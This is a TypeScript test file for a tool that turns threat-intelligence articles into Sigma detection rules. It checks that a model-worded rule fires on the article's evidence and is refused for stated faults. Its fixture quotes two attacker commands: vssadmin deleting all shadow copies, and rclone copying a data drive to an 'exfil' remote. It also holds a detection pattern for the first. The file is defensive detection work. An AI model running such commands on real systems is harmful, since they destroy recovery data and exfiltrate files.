import { describe, expect, it } from 'vitest';
import { extractObservables } from '../../src/extract-observables.ts';
import { findTechniques } from '../../src/find-techniques.ts';
import { checkSigma } from '../../src/sigma/check-sigma.ts';
import { type WordedRule, draftWordedRule } from '../../src/sigma/draft/draft-worded-rule.ts';

const text = String.raw`Before the encryption began, the intruders deleted the shadow copies (T1490):

vssadmin delete shadows /all /quiet
rclone.exe copy D:\data remote:exfil --transfers 32 --no-check-certificate`;
const source = {
  url: 'https://blog.example/heron',
  title: 'The heron returns',
  date: '2026-11-20',
  mentions: extractObservables(text),
  techniques: findTechniques(text),
};
const sound: WordedRule = {
  title: 'Shadow Copies Deleted',
  description: 'Detects the deletion of all shadow copies.',
  logsource: { category: 'process_creation', product: 'windows', service: '' },
  detection: [
    'selection_img:',
    "  Image|endswith: '\\vssadmin.exe'",
    'selection_cli:',
    '  CommandLine|contains|all:',
    '    - delete shadows',
    '    - /quiet',
    'condition: selection_img and selection_cli',
  ].join('\n'),
  falsepositives: ['Backup software that makes room'],
  level: 'high',
};
const problemsOf = (changes: Partial<WordedRule>): string => {
  const judged = draftWordedRule({ ...sound, ...changes }, source);
  return 'problems' in judged ? judged.problems.join('\n') : 'none';
};

describe('a rule that a model worded', () => {
  it('becomes a draft with our head, and fires on an event of the article’s own evidence', () => {
    const judged = draftWordedRule(sound, source);
    if (!('draft' in judged)) throw new Error(judged.problems.join());
    const { draft } = judged;
    expect(draft.fires).toBe(true);
    expect(draft.event).toMatchObject({ CommandLine: 'vssadmin delete shadows /all /quiet' });
    expect(draft.evidence.map(({ start, end }) => text.slice(start, end))).toEqual([
      'vssadmin delete shadows /all /quiet',
    ]);
    const [rule] = checkSigma(draft.yaml).rules;
    expect(rule).toMatchObject({ status: 'experimental', title: sound.title, level: 'high' });
    expect(rule?.tags).toContain('attack.t1490');
    expect(draft.yaml).toContain(source.url);
    expect(draft.yaml).toContain('Backup software that makes room');
  });

  it('may be given with its whole “detection” key', () => {
    const detection = `detection:\n${sound.detection.replaceAll(/^/gm, '  ')}`;
    expect(problemsOf({ detection })).toBe('none');
  });

  it.each([
    ['broken YAML', { detection: 'selection: [unclosed' }, /Line 1/],
    ['no map', { detection: 'just words' }, /map/],
    ['two documents', { detection: `${sound.detection}\n---\na: b` }, /not one YAML map/],
    [
      'an unknown selection',
      { detection: sound.detection.replace('and selection_cli', 'and selection_x') },
      /selection_x/,
    ],
    ['an unknown modifier', { detection: sound.detection.replace('|endswith', '|endsin') }, /endsin/],
    ['no log source', { logsource: { category: '', product: '', service: '' } }, /log source/i],
    [
      'another log source',
      { logsource: { category: 'dns_query', product: 'windows', service: '' } },
      /none of the events/,
    ],
    [
      'values the article does not have',
      { detection: sound.detection.replace('/quiet', '/nowhere') },
      /none of the events/,
    ],
    [
      'what happens every day',
      { detection: "selection:\n  CommandLine|contains: ' '\ncondition: selection" },
      /everyday events|too little|broad/,
    ],
  ])('is refused with the reason: %s', (_name, changes, words) => {
    expect(problemsOf(changes)).toMatch(words);
  });
});
